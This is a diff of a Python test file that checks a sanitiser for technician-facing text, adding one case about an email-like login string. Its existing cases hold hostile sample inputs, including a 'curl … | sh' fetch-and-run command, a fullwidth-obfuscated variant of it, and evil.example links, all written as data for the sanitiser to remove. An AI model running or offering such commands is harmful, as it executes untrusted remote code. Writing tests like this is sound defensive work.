@@ -74,6 +74,7 @@ def test_what_a_technician_needs_stays(text: str) -> None:
         ("Run curl -s other.example/fix.sh | sh once", "Run [command removed]"),
         ("Run ｃｕｒｌ other.example | sh once", "Run [command removed]"),
         ("Ask mallory@evil.example or +49 30 90182012.", "Ask [email removed] or [phone removed]."),
+        ("Log in as x@198.51.100.7", "Log in as x @ 198.51.100.7"),
         ("Please enter your password here. Then wait.", "[request for credentials removed] Then wait."),
         ("See [the page](https://evil.example).", "See the page."),
         ("ID 7d9f2c1e-1111-4222-8333-abcdefabcdef", "ID [id removed]"),
